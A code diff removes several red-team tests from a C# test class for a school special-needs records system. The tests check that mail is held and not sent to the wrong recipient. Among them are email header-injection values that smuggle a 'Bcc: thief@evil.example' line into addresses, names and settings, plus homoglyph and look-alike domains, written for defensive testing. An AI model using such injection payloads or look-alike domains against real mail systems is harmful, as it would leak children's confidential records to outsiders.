@@ -6,7 +6,7 @@ using SenHub.Domain.Import;
 namespace SenHub.Workers.Tests.RedTeam;
 
 /// <summary>Somebody tries to get a paper to the wrong person, by the means that schools have seen. Through the real gates, the real send step and a mail server: all end Held, none Sent.</summary>
-public sealed class RedTeamTests
+public sealed partial class RedTeamTests
 {
     private static readonly DateOnly Night = SmallSchool.FirstNight;
 
@@ -47,51 +47,6 @@ public sealed class RedTeamTests
     public async Task Another_pupils_number_in_a_text() => await AssertTextHeldAsync($"Group of {A.Upn(5).ToString()[..5]} {A.Upn(5).ToString()[5..]}", "GATE-2");
 
     [Fact]
-    public async Task Address_changed_between_build_and_send()
-    {
-        await using var school = await SmallSchool.OpenAsync();
-        await school.NightAsync(Night);
-        await school.EditAsync(facts => facts with { Agencies = [.. facts.Agencies.Select(agency => agency.Kind == "EP" ? agency with { Email = "new@eps.example" } : agency)] });
-
-        await school.DayAsync(Night);
-
-        await AssertHeldAsync(school, "GATE-3", IsForEp);
-        Assert.Equal(0, school.MailsTo("new@eps.example") + school.MailsTo(SmallWorld.Ep));
-    }
-
-    [Fact]
-    public async Task Consent_withdrawn_between_build_and_send()
-    {
-        await using var school = await SmallSchool.OpenAsync();
-        await school.NightAsync(Night);
-        await school.EditAsync(facts => facts with { Consents = [.. facts.Consents.Select(consent => consent with { WithdrawnOn = Night.AddDays(1) })] });
-
-        await school.DayAsync(Night);
-
-        await AssertHeldAsync(school, "GATE-1", IsForEp);
-    }
-
-    [Fact]
-    public async Task Expired_consent()
-    {
-        await using var school = await SmallSchool.OpenAsync(facts: (_, facts) => facts with { Consents = [.. facts.Consents.Select(consent => consent with { ExpiresOn = Night.AddDays(-1) })] });
-
-        await school.NightAndDayAsync(Night);
-
-        await AssertHeldAsync(school, "GATE-1", IsForEp);
-    }
-
-    [Fact]
-    public async Task A_consent_that_ends_with_the_night_is_none_by_day()
-    {
-        await using var school = await SmallSchool.OpenAsync(facts: (_, facts) => facts with { Consents = [.. facts.Consents.Select(consent => consent with { ExpiresOn = Night })] });
-
-        await school.NightAndDayAsync(Night);
-
-        await AssertHeldAsync(school, "GATE-1", IsForEp);
-    }
-
-    [Fact]
     public async Task A_merged_record()
     {
         await using var school = await SmallSchool.OpenAsync();
@@ -118,83 +73,6 @@ public sealed class RedTeamTests
     }
 
     [Fact]
-    public async Task A_poisoned_template()
-    {
-        await using var school = await SmallSchool.OpenAsync(facts: (_, facts) => facts with { Requests = [.. facts.Requests.Select(row => row with { Kind = row.To == "Link EP" ? FormKinds.EpRequest : row.Kind })] });
-        var templates = Directory.CreateDirectory(Path.Combine(school.Home.SchoolFolder(SmallSchool.Number), "templates")).FullName;
-        var shipped = await File.ReadAllTextAsync(Path.Combine(Repository.Root, "templates", "ep-request.yaml"));
-        var heading = System.Text.RegularExpressions.Regex.Match(shipped, "- heading: (.+)").Groups[1].Value;
-        await File.WriteAllTextAsync(Path.Combine(templates, "ep-request.yaml"), shipped.Replace($"- heading: {heading}", "- heading: As for Lucja Nowak of 5 Elm", StringComparison.Ordinal));
-
-        await school.NightAndDayAsync(Night);
-
-        await AssertHeldAsync(school, "GATE-2", IsForEp);
-    }
-
-    public static TheoryData<string> HeaderFields => ["agency address", "parent address"];
-
-    [Theory]
-    [MemberData(nameof(HeaderFields))]
-    public async Task CRLF_in_every_field(string field)
-    {
-        const string Break = "\r\nBcc: thief@evil.example";
-        var ofParent = field == "parent address";
-        await using var school = await SmallSchool.OpenAsync(
-            ofParent ? [Injected(SmallWorld.Rows[0], Break), .. SmallWorld.Rows.Skip(1)] : null,
-            (_, facts) => ofParent ? facts : facts with { Agencies = [.. facts.Agencies.Select(agency => agency.Kind == "EP" ? agency with { Email = agency.Email + Break } : agency)] });
-
-        await school.NightAndDayAsync(Night);
-
-        await AssertHeldAsync(school, "GATE-3", delivery => IsForEp(delivery) != ofParent);
-        Assert.Equal(0, school.MailsTo("thief@evil.example"));
-    }
-
-    [Theory]
-    [InlineData("from: senhub@school.example")]
-    [InlineData("replyTo: senco@school.example")]
-    public async Task CRLF_in_the_schools_own_addresses_is_refused_before_anything_runs(string line)
-    {
-        await using var school = await SmallSchool.OpenAsync();
-        await ReplaceInSettingsAsync(school, line, "\r\nBcc: thief@evil.example");
-
-        await Assert.ThrowsAsync<InvalidDataException>(() => school.NightAndDayAsync(Night));
-
-        Assert.Equal(0, school.MailsOutside);
-    }
-
-    [Fact]
-    public async Task CRLF_in_names_and_texts_adds_no_header()
-    {
-        const string Break = "\r\nBcc: thief@evil.example\r\n";
-        var first = SmallWorld.Rows[0] with { Forename = "Aisling" + Break, Class = "5 Elm" + Break };
-        await using var school = await SmallSchool.OpenAsync([first, .. SmallWorld.Rows.Skip(1)], (roll, facts) => facts with
-        {
-            Provision = [SmallWorld.Line(SmallWorld.Girl(roll), "Precision teaching" + Break)],
-            Requests = [.. facts.Requests.Select(row => row with { Why = row.Why + Break })],
-            Staff = [.. facts.Staff.Select(member => member.Role == "SENCo" ? member with { Name = "Ms Sen" + Break } : member)],
-        });
-
-        await school.NightAndDayAsync(Night);
-
-        Assert.DoesNotContain(school.Heads(), head => head.Contains("thief", StringComparison.Ordinal));
-    }
-
-    [Theory]
-    [InlineData("ep@eps.examp1e")]
-    [InlineData("ep@eps.exanple")]
-    [InlineData("ep@\u0435ps.example")]
-    [InlineData("ep@eps.example.evil.example")]
-    public async Task Look_alike_domain(string address)
-    {
-        await using var school = await SmallSchool.OpenAsync(facts: (_, facts) => facts with { Agencies = [.. facts.Agencies.Select(agency => agency.Kind == "EP" ? agency with { Email = address } : agency)] });
-        await school.Deliveries.ConfirmAddressesAsync(SmallSchool.Number, [new AddressRelease("Link EP", address, Night, "Office", "clicked away")], default);
-
-        await school.NightAndDayAsync(Night);
-
-        await AssertHeldAsync(school, "GATE-3", IsForEp);
-    }
-
-    [Fact]
     public async Task A_no_contact_person_sharing_a_mailbox()
     {
         var mother = SmallWorld.Contact("Mrs", "Rosheen", "Fieldhouse", "PAM", new(["1 Fieldhouse Lane"], "ZZ1 1ZZ")) with { Email = "Donal.Field.House+mum@EXAMPLE.org" };
@@ -206,65 +84,6 @@ public sealed class RedTeamTests
         await school.NightAndDayAsync(Night);
 
         await AssertHeldAsync(school, "GATE-4", delivery => delivery.Recipient.Class == RecipientClass.Parent);
-    }
-
-    [Fact]
-    public async Task A_deleted_withdrawal_row()
-    {
-        await using var school = await SmallSchool.OpenAsync(facts: (_, facts) => facts with { Consents = [.. facts.Consents.Select(consent => consent with { WithdrawnOn = A.Day("2026-11-20") })] });
-        await school.NightAndDayAsync(Night);
-        await school.EditAsync(facts => facts with { Consents = [.. facts.Consents.Select(consent => consent with { WithdrawnOn = null })] });
-
-        await school.NightAndDayAsync(Night.AddDays(1));
-
-        await AssertHeldAsync(school, "GATE-1", IsForEp);
-    }
-
-    [Fact]
-    public async Task A_partially_sorted_sheet()
-    {
-        await using var school = await SmallSchool.OpenAsync(facts: (roll, facts) => facts with
-        {
-            Provision = [.. roll.Pupils.Select((pupil, at) => SmallWorld.Line(pupil.Ref, $"Intervention {at}") with { LineId = $"line {at}" })],
-        });
-        await school.NightAsync(Night.AddDays(-1));
-        PartialSort.Of(Path.Combine(school.Home.SchoolFolder(SmallSchool.Number), "provision", "Provision.xlsx"));
-
-        await school.DayAsync(Night.AddDays(-1));
-        await school.NightAndDayAsync(Night);
-
-        await AssertHeldAsync(school, "SD-F3", _ => true);
-        await AssertNothingLeftAsync(school);
-    }
-
-    [Fact]
-    public async Task A_pupil_or_a_person_stopped_by_day()
-    {
-        await using var school = await SmallSchool.OpenAsync();
-        await school.NightAsync(Night);
-        var said = new Said("safeguarding", DateTimeOffset.UnixEpoch, "the police rang");
-        var stop = new Stop { Id = Domain.DerivedId.Of("stop"), Reference = "H7K2-9QXM", School = SmallSchool.Number, Person = "Donal Fieldhouse", Begun = said };
-
-        Assert.Equal(1, await school.Get<IGateLedger>().StopAsync(stop, Night, default));
-        Assert.Equal(2, await school.Get<IGateLedger>().StopAsync(stop with { Id = Domain.DerivedId.Of("other"), Reference = "H7K2-9QXN", Person = null, Pupil = SmallWorld.Girl(school.Roll) }, Night, default));
-        await school.DayAsync(Night);
-
-        await AssertHeldAsync(school, "SD-S3", _ => true);
-        await AssertNothingLeftAsync(school);
-    }
-
-    [Fact]
-    public async Task A_paper_that_was_changed_on_the_disk()
-    {
-        await using var school = await SmallSchool.OpenAsync();
-        await school.NightAsync(Night);
-        foreach (var delivery in await school.OutsideAsync())
-            await File.AppendAllTextAsync(school.Home.PaperFile(delivery.Kind, delivery.PaperId), "%changed");
-
-        await school.DayAsync(Night);
-
-        await AssertHeldAsync(school, "GATE-9", _ => true);
-        await AssertNothingLeftAsync(school);
     }
 
     private static bool IsForEp(Delivery delivery) => delivery.Recipient.Name == "Link EP";
